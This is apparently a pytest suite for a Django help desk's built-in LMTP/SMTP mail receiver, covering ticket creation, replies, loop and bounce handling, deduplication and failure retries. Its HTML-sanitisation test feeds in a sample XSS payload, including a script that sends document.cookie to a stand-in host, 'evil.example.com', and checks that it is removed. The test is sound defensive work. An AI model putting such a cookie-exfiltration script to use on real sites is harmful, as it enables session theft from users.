"""Mail handed to the desk by an MTA, through a real LMTP or SMTP connection to the
built-in receiver (intake.receiver, the server of `manage.py receive_mail`)."""

from concurrent.futures import ThreadPoolExecutor

import pytest
from django.conf import settings as django_settings
from django.contrib.auth import get_user_model

from accounts.roles import Role, roles_of
from incidents import actions as desk
from incidents.models import Channel, Kind, Ticket
from intake.models import InboundMessage, Outcome, UnknownSenderPolicy, Via
from notifications import delivery
from notifications.models import Channel as NotificationChannel
from notifications.models import Notification

from .conftest import DESK_ADDRESS, as_bytes, compose

pytestmark = pytest.mark.django_db(transaction=True)  # the receiver's threads use connections of their own

PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def reply_subject(ticket):
    return f"Re: [{ticket.number}] {ticket.title}"


def comments(ticket):
    return list(ticket.timeline.filter(kind=Kind.COMMENT).order_by("id"))


def notification_message_id(ticket, user):
    """The Message-ID of the e-mail the desk sent `user` about `ticket` (notifications.delivery)."""
    notification = Notification.objects.filter(ticket=ticket, recipient=user, channel=NotificationChannel.EMAIL).first()
    assert notification is not None, "the desk sends the reporter an e-mail when it opens their ticket"
    return delivery.message_id(notification)


# New tickets -------------------------------------------------------------------------------


def test_new_message_from_a_known_user_opens_a_ticket_in_the_mailboxs_service_with_its_files(
    receiver, mailbox, reporter, net_service, intranet
):
    message = compose(
        f"Rita Reporter <{reporter.email.upper()}>",
        attachments=[("smoke.png", "image/png", PNG), ("inventory.pdf", "application/pdf", PDF)],
    )

    answer = receiver.deliver(message)

    assert answer.code == 250, answer.text
    ticket = Ticket.objects.get()
    assert ticket.service == net_service  # the address's service, not the application's
    assert ticket.application == intranet
    assert ticket.channel == Channel.EMAIL
    assert ticket.reporter == reporter and ticket.created_by == reporter
    assert ticket.title == "The printer on floor 2 is on fire"
    assert ticket.description == "Smoke is coming out of the paper tray."
    files = {attachment.name: attachment for attachment in ticket.attachments.all()}
    assert set(files) == {"smoke.png", "inventory.pdf"}
    for name, content_type, content in [("smoke.png", "image/png", PNG), ("inventory.pdf", "application/pdf", PDF)]:
        assert files[name].content_type == content_type
        with files[name].file.open("rb") as stored:
            assert stored.read() == content
    received = InboundMessage.objects.get()
    assert received.outcome == Outcome.TICKET_CREATED and received.ticket == ticket
    assert received.via == (Via.LMTP if receiver.lmtp else Via.SMTP)


def test_rcpt_to_an_address_without_an_active_mailbox_is_refused_with_550(receiver, mailbox):
    assert receiver.rcpt("nobody@firebreak.test").code == 550
    assert receiver.rcpt("help@elsewhere.test").code == 550
    assert receiver.rcpt("Help+Printers@Firebreak.test").code == 250  # sub-addresses reach the mailbox

    mailbox.is_active = False
    mailbox.save(update_fields=["is_active"])

    assert receiver.rcpt(DESK_ADDRESS).code == 550


def test_lmtp_answers_a_message_to_two_addresses_once_per_address_and_files_it_once(lmtp_receiver, mailbox, reporter):
    # RFC 2033: one reply per accepted recipient after DATA, or the MTA waits for the rest.
    with lmtp_receiver.connect() as client:
        client.mail(reporter.email)
        assert client.rcpt(DESK_ADDRESS)[0] == 250
        assert client.rcpt("help+printers@firebreak.test")[0] == 250
        first = client.data(as_bytes(compose(reporter.email, to=f"{DESK_ADDRESS}, help+printers@firebreak.test")))
        second = client.getreply()

    assert (first[0], second[0]) == (250, 250)
    assert Ticket.objects.count() == 1


def test_an_attachment_over_the_limit_is_left_out_and_the_ticket_says_so(lmtp_receiver, mailbox, reporter, settings):
    settings.ATTACHMENT_MAX_BYTES = 2048
    message = compose(
        reporter.email,
        attachments=[("smoke.png", "image/png", PNG), ("core.dump", "application/octet-stream", b"x" * 5000)],
    )

    assert lmtp_receiver.deliver(message).code == 250

    ticket = Ticket.objects.get()
    assert [attachment.name for attachment in ticket.attachments.all()] == ["smoke.png"]
    assert ticket.description.startswith("Smoke is coming out of the paper tray.")
    assert "“core.dump”" in ticket.description and "was not kept" in ticket.description


def test_a_message_that_is_only_a_file_keeps_the_file(lmtp_receiver, mailbox, reporter):
    # Scanners and scripts send the file as the whole message, with no text part.
    message = compose(reporter.email, subject="Scan from the floor 2 printer", body=None)
    message.set_content(PDF, maintype="application", subtype="pdf", filename="scan.pdf")

    assert lmtp_receiver.deliver(message).code == 250

    ticket = Ticket.objects.get()
    assert ticket.title == "Scan from the floor 2 printer"
    assert [(a.name, a.content_type, a.size) for a in ticket.attachments.all()] == [
        ("scan.pdf", "application/pdf", len(PDF))
    ]


# Replies -------------------------------------------------------------------------------------


def test_replies_with_the_ticket_number_in_the_subject_become_comments(receiver, mailbox, ticket, reporter, dev_tech):
    from_reporter = compose(reporter.email, subject=reply_subject(ticket), body="It happened again this morning.")
    from_technician = compose(dev_tech.email, subject=f"RE: {reply_subject(ticket)}", body="Restarted the service.")

    assert receiver.deliver(from_reporter).code == 250
    assert receiver.deliver(from_technician).code == 250

    assert [(c.author, c.body, c.is_internal) for c in comments(ticket)] == [
        (reporter, "It happened again this morning.", False),
        (dev_tech, "Restarted the service.", False),
    ]
    ticket.refresh_from_db()
    assert ticket.first_response_at is not None  # the technician's answer counts as the first response
    assert Ticket.objects.count() == 1
    assert set(InboundMessage.objects.values_list("outcome", flat=True)) == {Outcome.COMMENT_ADDED}


def test_reply_threaded_only_by_a_desk_notifications_message_id_becomes_a_comment(
    lmtp_receiver, mailbox, ticket, reporter
):
    # The subject lost its number (a mail client rewrote it); the headers still thread:
    # In-Reply-To, or References alone (clients that drop In-Reply-To).
    answered = notification_message_id(ticket, reporter)
    by_in_reply_to = compose(
        reporter.email, subject="Re: printer", body="Still smoking.", headers={"In-Reply-To": answered}
    )
    by_references = compose(
        reporter.email,
        subject="Re: printer",
        body="Now it beeps too.",
        headers={"References": f"{delivery.thread_id(ticket)} {answered}"},
    )

    assert lmtp_receiver.deliver(by_in_reply_to).code == 250
    assert lmtp_receiver.deliver(by_references).code == 250

    assert [(c.author, c.body) for c in comments(ticket)] == [
        (reporter, "Still smoking."),
        (reporter, "Now it beeps too."),
    ]
    assert Ticket.objects.count() == 1


def test_reply_from_someone_who_may_not_see_the_ticket_does_not_touch_it(
    lmtp_receiver, mailbox, ticket, reporter, other_reporter
):
    by_subject = compose(other_reporter.email, subject=reply_subject(ticket), body="Close it, please.")
    answered = notification_message_id(ticket, reporter)
    by_headers = compose(other_reporter.email, subject="Re: hi", body="Close it.", headers={"In-Reply-To": answered})
    updated_at = ticket.updated_at

    assert lmtp_receiver.deliver(by_subject).code == 250
    assert lmtp_receiver.deliver(by_headers).code == 250

    assert comments(ticket) == []
    ticket.refresh_from_db()
    assert ticket.updated_at == updated_at
    # Answered like any new message: tickets of their own, which tell nothing about the other.
    theirs = Ticket.objects.exclude(pk=ticket.pk).order_by("id")
    assert [(t.reporter, t.title) for t in theirs] == [(other_reporter, ticket.title), (other_reporter, "hi")]


def test_reply_the_desks_rules_refuse_is_answered_politely_and_changes_nothing(
    lmtp_receiver, mailbox, ticket, operator, other_reporter, mailoutbox
):
    # A watcher added from outside the service reads the ticket but may not comment on it.
    desk.watch_ticket(ticket, by=operator, user=other_reporter)
    message = compose(other_reporter.email, subject=reply_subject(ticket), body="Any news?")

    assert lmtp_receiver.deliver(message).code == 250

    assert comments(ticket) == []
    assert Ticket.objects.count() == 1
    [reply] = mailoutbox
    assert reply.to == [other_reporter.email] and reply.extra_headers["Auto-Submitted"] == "auto-replied"
    assert "You cannot comment on this ticket." in reply.body
    assert InboundMessage.objects.get().outcome == Outcome.REFUSED


def test_quoted_history_is_trimmed_from_replies(lmtp_receiver, mailbox, ticket, reporter):
    histories = [
        "On Mon, 30 Nov 2026 at 10:00, Firebreak <firebreak@localhost> wrote:\n> The ticket was updated.\n> Bye",
        "Le lun. 30 nov. 2026 à 10:00, Firebreak <firebreak@localhost> a écrit :\n> Le ticket a été mis à jour.",
        "-----Original Message-----\nFrom: Firebreak <firebreak@localhost>\nSent: Monday, November 30, 2026 10:00\n"
        "To: reporter@example.com\nSubject: [INC-2026-000001] Error\n\nThe ticket was updated.",
    ]  # English and French clients, Outlook
    for number, history in enumerate(histories, 1):
        body = f"Restarting did not help ({number}).\nThe error code is 503.\n\n{history}\n"
        message = compose(reporter.email, subject=reply_subject(ticket), body=body)
        assert lmtp_receiver.deliver(message).code == 250

    assert [comment.body for comment in comments(ticket)] == [
        f"Restarting did not help ({number}).\nThe error code is 503." for number in (1, 2, 3)
    ]


def test_html_only_mail_is_sanitised_before_it_is_stored(lmtp_receiver, mailbox, ticket, reporter):
    html = (
        "<html><head><title>Re</title><style>p { color: red }</style><script>steal()</script></head><body>"
        '<p onclick="steal()">The error is back: <b>500</b> on '
        '<a href="https://intranet.example.com/login">the login page</a>.</p>'
        '<p><a href="javascript:steal()">Details</a><img src="https://tracker.example.com/pixel.gif"></p>'
        '<script>document.location = "https://evil.example.com/?" + document.cookie</script>'
        "<div>On Mon, 30 Nov 2026 at 10:00, Firebreak &lt;firebreak@localhost&gt; wrote:</div>"
        "<blockquote><p>The ticket was updated.</p></blockquote></body></html>"
    )
    message = compose(reporter.email, subject=reply_subject(ticket), body=None, html=html)

    assert lmtp_receiver.deliver(message).code == 250

    [comment] = comments(ticket)
    assert comment.body == ("The error is back: 500 on the login page (https://intranet.example.com/login).\n\nDetails")
    for never in ("<", "script", "steal", "evil", "cookie", "javascript", "tracker", "color"):
        assert never not in comment.body


# Mail that must create nothing -----------------------------------------------------------------


def test_auto_replies_and_bounces_create_nothing(lmtp_receiver, mailbox, reporter, mailoutbox):
    automatic = {
        "auto-submitted": ({"Auto-Submitted": "auto-replied"}, None),
        "bulk": ({"Precedence": "bulk"}, None),
        "junk": ({"Precedence": "junk"}, None),
        "list": ({"Precedence": "list"}, None),
        "x-autoreply": ({"X-Autoreply": "yes"}, None),
        "empty return path": ({}, ""),  # a bounce: the envelope sender is empty (MAIL FROM:<>)
    }
    for kind, (headers, mail_from) in automatic.items():
        message = compose(reporter.email, subject=f"Out of office ({kind})", headers=headers)
        assert lmtp_receiver.deliver(message, mail_from=mail_from).code == 250, kind

    assert not Ticket.objects.exists()
    assert mailoutbox == []
    outcomes = dict(InboundMessage.objects.values_list("subject", "outcome"))
    assert outcomes == {f"Out of office ({kind})": Outcome.IGNORED_AUTO for kind in automatic}


def test_a_bounce_from_a_postmaster_creates_nothing_and_is_not_answered(lmtp_receiver, mailbox, mailoutbox):
    # No auto-reply header and an ordinary-looking sender: only the empty envelope
    # sender says it is a bounce. Answering it would start a loop with the postmaster.
    mailbox.unknown_sender_policy = UnknownSenderPolicy.CREATE_REPORTER
    mailbox.save(update_fields=["unknown_sender_policy"])
    message = compose(
        "Mail Delivery System <postmaster@elsewhere.test>",
        subject="Undelivered Mail Returned to Sender",
        body="This is the mail system at host elsewhere.test. I'm sorry to have to inform you...",
    )

    assert lmtp_receiver.deliver(message, mail_from="").code == 250

    assert not Ticket.objects.exists()
    assert not get_user_model().objects.filter(email="postmaster@elsewhere.test").exists()
    assert mailoutbox == []
    assert InboundMessage.objects.get().outcome == Outcome.IGNORED_AUTO


def test_the_desks_own_mail_coming_back_creates_nothing(lmtp_receiver, mailbox, ticket, reporter, mailoutbox):
    mailbox.unknown_sender_policy = UnknownSenderPolicy.CREATE_REPORTER  # not even an account
    mailbox.save(update_fields=["unknown_sender_policy"])
    # The reporter's address forwards to the desk: the desk's own e-mail arrives back.
    delivery.send_email(Notification.objects.get(ticket=ticket, recipient=reporter, channel="email"))
    notification = mailoutbox.pop().message().as_bytes(linesep="\r\n")  # as the SMTP backend sends it
    entries = ticket.timeline.count()

    assert lmtp_receiver.deliver(notification, mail_from="firebreak@localhost").code == 250
    # Mail from the desk's addresses, whatever its headers.
    for sender in (django_settings.DEFAULT_FROM_EMAIL, DESK_ADDRESS):
        assert lmtp_receiver.deliver(compose(sender, subject=reply_subject(ticket))).code == 250

    assert ticket.timeline.count() == entries
    assert Ticket.objects.count() == 1
    assert not get_user_model().objects.filter(email__in=["firebreak@localhost", DESK_ADDRESS]).exists()
    assert mailoutbox == []
    assert list(InboundMessage.objects.values_list("outcome", flat=True)) == [Outcome.IGNORED_LOOP] * 3


# Exactly once ------------------------------------------------------------------------------------


def test_the_same_message_delivered_twice_makes_one_ticket(receiver, mailbox, reporter):
    with_id = as_bytes(compose(reporter.email, subject="With a Message-ID"))
    without_id = as_bytes(compose(reporter.email, subject="Without", message_id=""))  # same content, same key

    answers = [receiver.deliver(raw, mail_from=reporter.email) for raw in (with_id, with_id, without_id, without_id)]

    assert [answer.code for answer in answers] == [250] * 4
    assert sorted(Ticket.objects.values_list("title", flat=True)) == ["With a Message-ID", "Without"]
    assert InboundMessage.objects.count() == 2


def test_the_same_message_delivered_four_times_at_once_makes_one_ticket(lmtp_receiver, mailbox, reporter):
    raw = as_bytes(compose(reporter.email))

    with ThreadPoolExecutor(4) as pool:
        answers = list(pool.map(lambda _: lmtp_receiver.deliver(raw, mail_from=reporter.email), range(4)))

    assert [answer.code for answer in answers] == [250] * 4
    assert Ticket.objects.count() == 1
    assert InboundMessage.objects.count() == 1


# Unknown senders -------------------------------------------------------------------------------


def test_unknown_sender_gets_one_polite_reply_and_no_ticket(lmtp_receiver, mailbox, mailoutbox):
    message = compose("Sam Stranger <sam@elsewhere.test>", subject="Need access to the intranet")

    assert lmtp_receiver.deliver(message).code == 250

    assert not Ticket.objects.exists()
    assert not get_user_model().objects.filter(email="sam@elsewhere.test").exists()
    [reply] = mailoutbox
    assert reply.to == ["sam@elsewhere.test"]
    assert reply.subject == "Re: Need access to the intranet"
    assert reply.extra_headers["Auto-Submitted"] == "auto-replied"  # so that autoresponders do not answer it
    assert reply.extra_headers["In-Reply-To"] == message["Message-ID"]
    assert DESK_ADDRESS in reply.body and "account" in reply.body
    html = reply.alternatives[0].content
    assert DESK_ADDRESS in html
    assert InboundMessage.objects.get().outcome == Outcome.REJECTED_UNKNOWN


def test_an_unknown_sender_writing_again_and_again_gets_at_most_three_replies_an_hour(
    lmtp_receiver, mailbox, mailoutbox
):
    for number in range(5):
        message = compose("robot@elsewhere.test", subject=f"Report {number}")
        assert lmtp_receiver.deliver(message).code == 250

    assert len(mailoutbox) == 3
    assert InboundMessage.objects.filter(outcome=Outcome.REJECTED_UNKNOWN).count() == 5


def test_unknown_sender_gets_a_reporter_account_and_a_ticket_when_the_mailbox_says_so(
    lmtp_receiver, mailbox, net_service, mailoutbox
):
    mailbox.unknown_sender_policy = UnknownSenderPolicy.CREATE_REPORTER
    mailbox.save(update_fields=["unknown_sender_policy"])

    assert lmtp_receiver.deliver(compose("Sam Stranger <Sam@Elsewhere.test>")).code == 250
    assert lmtp_receiver.deliver(compose("sam@elsewhere.test", subject="And the scanner too")).code == 250

    account = get_user_model().objects.get(email="sam@elsewhere.test")
    assert (account.first_name, account.last_name) == ("Sam", "Stranger")
    assert roles_of(account) == [Role.USER]
    assert not account.has_usable_password()
    tickets = Ticket.objects.order_by("id")
    assert [(t.reporter, t.service, t.channel) for t in tickets] == [(account, net_service, Channel.EMAIL)] * 2
    assert Ticket.objects.visible_to(account).count() == 2
    assert mailoutbox == []  # no "we could not register it" reply


def test_a_disabled_account_does_not_come_back_by_email(lmtp_receiver, mailbox, other_reporter, mailoutbox):
    mailbox.unknown_sender_policy = UnknownSenderPolicy.CREATE_REPORTER
    mailbox.save(update_fields=["unknown_sender_policy"])
    other_reporter.is_active = False
    other_reporter.save(update_fields=["is_active"])

    assert lmtp_receiver.deliver(compose(other_reporter.email)).code == 250

    assert not Ticket.objects.exists()
    assert get_user_model().objects.filter(email=other_reporter.email).count() == 1
    assert [reply.to for reply in mailoutbox] == [[other_reporter.email]]


# Failures ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("receiver", "failure"),
    [("lmtp", "database_refuses_tickets"), ("smtp", "database_refuses_tickets"), ("lmtp", "storage_fails")],
    indirect=["receiver"],
)
def test_a_failure_answers_451_keeps_nothing_and_the_retry_succeeds(
    receiver, mailbox, failure, request, settings, tmp_path
):
    # A new sender's account, their ticket and its file are kept together or not at all.
    mailbox.unknown_sender_policy = UnknownSenderPolicy.CREATE_REPORTER
    mailbox.save(update_fields=["unknown_sender_policy"])
    broken = request.getfixturevalue(failure)
    message = compose("new.person@elsewhere.test", attachments=[("smoke.png", "image/png", PNG)])

    answer = receiver.deliver(message)

    assert answer.code == 451, answer.text
    assert not InboundMessage.objects.exists()
    assert not Ticket.objects.exists()
    assert not get_user_model().objects.filter(email="new.person@elsewhere.test").exists()

    # Repaired; the MTA tries again later.
    if failure == "database_refuses_tickets":
        broken.lift()
    else:
        settings.MEDIA_ROOT = tmp_path / "media"
    assert receiver.deliver(message).code == 250
    ticket = Ticket.objects.get()
    assert ticket.reporter.email == "new.person@elsewhere.test"
    assert [attachment.name for attachment in ticket.attachments.all()] == ["smoke.png"]
